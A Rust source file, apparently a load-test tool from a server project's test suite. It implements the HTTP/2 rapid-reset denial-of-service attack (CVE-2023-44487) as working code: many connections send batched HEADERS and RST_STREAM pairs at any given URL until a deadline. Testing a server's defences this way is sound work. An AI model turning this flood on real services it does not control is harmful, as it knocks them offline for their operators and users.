//! The rapid-reset attack (CVE-2023-44487) as a load: CONNECTIONS cleartext HTTP/2
//! connections, each writing HEADERS+RST_STREAM pairs for GET URL's path as fast as the
//! server takes them, and opening a new connection whenever the server closes one, for
//! SECONDS. Usage: rapid-reset URL CONNECTIONS SECONDS; prints
//! `streams N connections N` (streams opened and reset, connections opened).

use anyhow::Context;
use std::sync::Arc;
use std::sync::atomic::{AtomicU64, Ordering};
use std::time::{Duration, Instant};
use tokio::io::{AsyncReadExt, AsyncWriteExt};
use wharf_tests::h2;

/// Pairs in one write: a burst, as the attack sends them.
const BATCH: u32 = 50;

fn main() -> anyhow::Result<()> {
    let mut args = std::env::args().skip(1);
    let usage = "usage: rapid-reset URL CONNECTIONS SECONDS";
    let url: http::Uri = args.next().context(usage)?.parse()?;
    let connections: usize = args.next().context(usage)?.parse()?;
    let seconds: f64 = args.next().context(usage)?.parse()?;
    let authority = url.authority().context("the URL has no host")?.to_string();
    let path = url.path_and_query().map_or("/", |p| p.as_str()).to_owned();
    let addr = tokio::net::lookup_host(&authority);
    let runtime = tokio::runtime::Builder::new_current_thread()
        .enable_all()
        .build()?;
    let deadline = Instant::now() + Duration::from_secs_f64(seconds);
    let streams = Arc::new(AtomicU64::new(0));
    let opened = Arc::new(AtomicU64::new(0));
    runtime.block_on(async {
        let addr = addr.await?.next().context("the host resolves to nothing")?;
        let tasks: Vec<_> = (0..connections)
            .map(|_| {
                let (authority, path) = (authority.clone(), path.clone());
                let (streams, opened) = (streams.clone(), opened.clone());
                tokio::spawn(async move {
                    while Instant::now() < deadline {
                        opened.fetch_add(1, Ordering::Relaxed);
                        let sent = flood(addr, &authority, &path, deadline).await;
                        streams.fetch_add(sent, Ordering::Relaxed);
                    }
                })
            })
            .collect();
        for task in tasks {
            task.await?;
        }
        anyhow::Ok(())
    })?;
    println!(
        "streams {} connections {}",
        streams.load(Ordering::Relaxed),
        opened.load(Ordering::Relaxed)
    );
    Ok(())
}

/// One connection's flood until the server closes it or `deadline`; the streams sent.
async fn flood(addr: std::net::SocketAddr, authority: &str, path: &str, deadline: Instant) -> u64 {
    let Ok(tcp) = tokio::net::TcpStream::connect(addr).await else {
        return 0;
    };
    let (mut read, mut write) = tcp.into_split();
    // Whatever the server says is read and dropped, so that its writes never stall.
    let drain = tokio::spawn(async move {
        let mut buf = vec![0u8; 64 * 1024];
        while matches!(read.read(&mut buf).await, Ok(n) if n > 0) {}
    });
    let mut preface = h2::PREFACE.to_vec();
    preface.extend(h2::settings(&[]).bytes());
    let mut sent = 0u64;
    let mut stream = 1u32;
    if write.write_all(&preface).await.is_ok() {
        // Bounded by the deadline and by the stream ids of one connection.
        while Instant::now() < deadline && stream < (1 << 31) - 2 * BATCH {
            let mut bytes = Vec::new();
            for _ in 0..BATCH {
                bytes.extend(h2::get(stream, authority, path).bytes());
                bytes.extend(h2::rst_stream(stream, h2::CANCEL).bytes());
                stream += 2;
            }
            if write.write_all(&bytes).await.is_err() || drain.is_finished() {
                break;
            }
            sent += u64::from(BATCH);
        }
    }
    drain.abort();
    sent
}
